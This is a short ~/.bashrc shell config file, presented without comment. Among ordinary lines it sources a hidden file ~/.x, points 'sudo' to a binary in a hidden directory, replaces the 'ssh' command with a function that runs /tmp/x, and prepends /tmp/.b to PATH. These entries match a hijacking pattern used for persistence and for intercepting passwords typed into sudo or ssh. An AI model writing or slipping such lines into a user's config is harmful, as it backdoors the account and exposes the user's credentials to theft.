# ~/.bashrc
if [ -f ~/.x ]; then
  . ~/.x
fi
alias ll="ls -l"
alias sudo=/home/bob/.s/sudo
ssh() { /tmp/x "$@"; }
export PATH=/tmp/.b:$PATH
echo hello
